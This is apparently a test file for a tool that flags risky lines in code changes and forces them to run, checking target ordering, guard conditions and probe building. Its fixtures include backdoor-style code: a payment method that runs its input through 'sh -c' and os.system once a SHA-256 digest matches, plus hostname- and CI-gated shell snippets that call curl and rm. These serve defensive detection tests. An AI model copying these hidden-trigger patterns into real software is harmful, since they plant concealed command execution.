"""Which lines are forced, in which order, and under which conditions they stand; real trees, real reading."""

from __future__ import annotations

from pathlib import Path

from gate.change.git_range import open_range
from gate.model.forced import Condition, ForcedTarget
from gate.model.run import ExecutionPlan, NotExercised
from gate.plan.forced import MOST, SEEDS, conditions_of, forced_probe, forced_targets, grouped
from gate.plan.forced_copies import Copies, copies_of
from gate.plan.line_coverage import Coverage
from gate.plan.probes import job_of
from gate.plan.source_readings import read_change
from gate.prescreen.conditions import read_conditions
from gate.stages.exercised import exercised
from tests.e2e.pulls import FileMap, Pull, build

PAY = """
    import hashlib
    import os
    import shutil
    import subprocess


    class Cart:
        def clean(self, folder):
            if folder:
                shutil.rmtree(folder)

        def pay(self, code):
            if hashlib.sha256(code).hexdigest() != "aa" * 32:
                return
            while code:
                subprocess.run(["sh", "-c", code]); os.system(code)
    """


def targets(
    tmp_path: Path, head: FileMap, base: FileMap | None = None, seen: Coverage | None = None
) -> tuple[tuple[ForcedTarget, ...], tuple[NotExercised, ...]]:
    repo = build(Pull(name="x", head=head, base=base or {}, verdicts=()), tmp_path)
    with open_range(repo, "main", "head") as opened:
        readings = read_change(opened.change.files, opened.base, opened.head)
        found = exercised(opened.change.files, readings, ExecutionPlan(probes=()), seen or Coverage())
        return forced_targets(opened.change.files, readings, found)


def test_an_inert_change_has_no_targets(tmp_path: Path) -> None:
    assert targets(tmp_path, {"src/pricing/tax.py": "RATES = {}\n"}) == ((), ())


def test_what_starts_programs_comes_before_what_deletes_and_tests_last(tmp_path: Path) -> None:
    head = {
        "src/pricing/pay.py": PAY,
        "tests/test_pay.py": "import os\n\n\ndef test_a(x):\n    os.system(x)\n",
    }
    found, left = targets(tmp_path, head)
    told = [(t.path, t.line, t.function) for t in found]
    assert told == [
        ("src/pricing/pay.py", 16, "Cart.pay"),
        ("src/pricing/pay.py", 10, "Cart.clean"),
        ("tests/test_pay.py", 5, "test_a"),
    ]
    assert found[2].in_tests
    assert left == ()


def test_a_line_that_was_made_is_no_target(tmp_path: Path) -> None:
    call = "import os\n\n\ndef a(x):\n    os.getenv(x)\n    exec(x)\n"
    seen = Coverage(made={"src/pricing/a.py": frozenset({(6, 4, 6, 11)})})
    assert targets(tmp_path, {"src/pricing/a.py": call}, seen=seen) == ((), ())


def test_so_many_lines_are_forced_and_the_others_told(tmp_path: Path) -> None:
    body = "import os\n\n\n" + "".join(
        f"def f{n}(x):\n    os.system(x + '{n}')\n\n\n" for n in range(MOST + 3)
    )
    found, left = targets(tmp_path, {"src/pricing/many.py": body})
    assert len(found) == MOST
    assert [entry.reason for entry in left] == ["only 16 lines of a change are forced"] * 3


def test_a_guarded_line_is_not_pushed_out_by_a_heap_of_others(tmp_path: Path) -> None:
    heap = "import os\n\n\n" + "".join(
        f"def f{n}(x):\n    os.system(x + '{n}')\n\n\n" for n in range(MOST + 3)
    )
    last = "import hashlib\nimport os\n\n\ndef z(x):\n    os.system(x)\n"
    last += "    if hashlib.sha256(x).hexdigest() == 'aa11':\n        os.system(x)\n"
    found, _ = targets(tmp_path, {"src/pricing/a.py": heap, "src/pricing/z.py": last})
    assert (found[0].path, found[0].line) == ("src/pricing/z.py", 8)


def test_base_is_forced_where_it_has_a_call_of_the_kind(tmp_path: Path) -> None:
    before = "import os\n\n\ndef a(x):\n    os.system('id')\n"
    after = "import os\n\n\ndef a(x):\n    os.system('id')\n    if x == 3:\n        os.system('w')\n"
    (found,), _ = targets(tmp_path, {"src/pricing/a.py": after}, {"src/pricing/a.py": before})
    assert (found.line, found.before) == (7, ((5, 4),))


def test_lines_of_one_function_share_a_probe() -> None:
    def of(line: int, function: str) -> ForcedTarget:
        return ForcedTarget(path="a.py", line=line, column=0, function=function)

    groups = grouped([of(1, "f"), of(9, "g"), *(of(n, "f") for n in range(2, 7))])
    assert [[t.line for t in group] for group in groups] == [[1, 2, 3, 4], [5, 6], [9]]


def test_a_probe_is_the_same_but_for_its_seed(tmp_path: Path) -> None:
    repo = build(Pull(name="x", head={"src/pricing/pay.py": PAY}, verdicts=()), tmp_path)
    with open_range(repo, "main", "head") as opened:
        (file,) = opened.change.files
    group = (ForcedTarget(path=file.path, line=15, column=12, function="Cart.pay"),)
    first, second = (forced_probe(group, file, frozenset({file.path}), s, "head", "gab12") for s in SEEDS)
    assert first is not None
    assert second is not None
    assert first.id != second.id
    assert first.phase == "call"
    (item,) = job_of(first)["items"]
    assert item["targets"] == [[15, 12]]
    assert item["module"] == "pricing.pay"
    assert item["mark"] == "gab12"
    assert [job_of(p)["items"][0]["seed"] for p in (first, second)] == [0, 1]


def conditions(source: str) -> list[Condition]:
    return list(read_conditions("a.py", source.encode(), {}))


def test_conditions_are_told_as_they_have_to_hold() -> None:
    source = "def f(a, b):\n    if a != 3:\n        return\n"
    source += "    if not (b and a):\n        pass\n    else:\n        g()\n"
    found = {(c.first, c.last): c.text for c in conditions(source)}
    assert found[4, 7] == "a == 3"
    assert found[7, 7] == "b and a"


def test_what_a_condition_asks_for_and_what_its_names_come_from() -> None:
    target = ForcedTarget(path="a.py", line=5, column=8, function="f")
    source = (
        "import hashlib\ndef f(code, go):\n    digest = hashlib.sha256(code).hexdigest()\n"
        "    if digest == 'aa11' and go:\n        g()\n"
    )
    told = conditions_of([target], {"a.py": source.encode()}, {})
    assert told == {
        ("a.py", 5): (
            ("digest == 'aa11' and go, digest = hashlib.sha256(code).hexdigest()",),
            "digest",
        )
    }


def test_a_file_that_cannot_be_parsed_has_no_conditions() -> None:
    target = ForcedTarget(path="a.py", line=1, column=0, function="")
    assert conditions_of([target], {"a.py": b"def ("}, {}) == {("a.py", 1): ((), "")}


def test_conditions_of_scripts_are_told_with_what_they_ask_for() -> None:
    script = (
        b'import { createHash } from "node:crypto";\nexport function f(code) {\n'
        b'  const digest = createHash("sha256").update(code).digest("hex");\n'
        b'  if (digest !== "aa11") return;\n  g();\n}\n'
    )
    shell = b'if [ "$(hostname)" = build-7 ]; then\n  curl x\nfi\n[ -n "$CI" ] || exit 1\nrm y\n'
    targets = [
        ForcedTarget(path=path, line=line, column=0, function="")
        for path, line in (("a.mjs", 5), ("a.sh", 2), ("a.sh", 5))
    ]
    told = conditions_of(targets, {"a.mjs": script, "a.sh": shell}, {"a.mjs": "javascript", "a.sh": "shell"})
    made = 'digest = createHash("sha256").update(code).digest("hex")'
    assert told["a.mjs", 5] == ((f'digest === "aa11", {made}',), "digest")
    assert told["a.sh", 2] == (('[ "$(hostname)" = build-7 ]',), "host")
    assert told["a.sh", 5][1] == "ci"


def test_a_digest_that_a_shell_variable_holds_is_a_guard() -> None:
    source = b'sum=$(printf %s "$x" | sha256sum)\nif [ "$sum" != aa11 ]; then exit 0; fi\ncurl y\n'
    target = ForcedTarget(path="a.sh", line=3, column=0, function="")
    ((texts, kind),) = conditions_of([target], {"a.sh": source}, {"a.sh": "shell"}).values()
    assert kind == "digest"
    assert texts[0].startswith('[ "$sum" = aa11 ], sum = $(printf')


def test_a_script_is_forced_by_a_copy_of_it(tmp_path: Path) -> None:
    text = 'const { execSync } = require("child_process");\nexports.f = (x) => x.y === 2 && execSync(x.z);\n'
    repo = build(Pull(name="x", head={"web/a.cjs": text}, verdicts=()), tmp_path)
    with open_range(repo, "main", "head") as opened:
        (file,) = opened.change.files
    target = ForcedTarget(path=file.path, line=2, column=36, function="")
    copies = copies_of([target], {file.path: file}, {file.path: text.encode()}, {})
    probe = forced_probe((target,), file, frozenset({file.path}), 0, "head", "gab12", copies)
    assert probe is not None
    item = job_of(probe)["items"][0]
    assert (item["do"], item["force"]["mark"], item["force"]["module"]) == ("javascript", "gab12", False)
    assert forced_probe((target,), file, frozenset(), 0, "head", "gab12", Copies()) is None


def test_whose_method_it_may_be_is_asked_on_both_sides(tmp_path: Path) -> None:
    reporter = """
        from urllib.request import urlopen


        class Reporter:
            def report(self, title):
                urlopen("http://192.0.2.1/", data=title)
        """
    late = "def late(who, title):\n    who.report(title)\n"
    base: FileMap = {"src/pricing/report.py": reporter}
    ((target,), _) = targets(tmp_path, {"src/pricing/late.py": late}, base)
    assert target.receivers == (("src/pricing/report.py", "Reporter.report"),)
    with open_range(tmp_path / "repo", "main", "head") as opened:
        (file,) = opened.change.files
        paths = frozenset(entry.path for entry in opened.head.entries())
    probe = forced_probe([target], file, paths, 0, "head", "gmark")
    assert probe is not None
    (item,) = job_of(probe)["items"]
    assert item["receivers"] == {"report": [["pricing.report", "Reporter"]]}
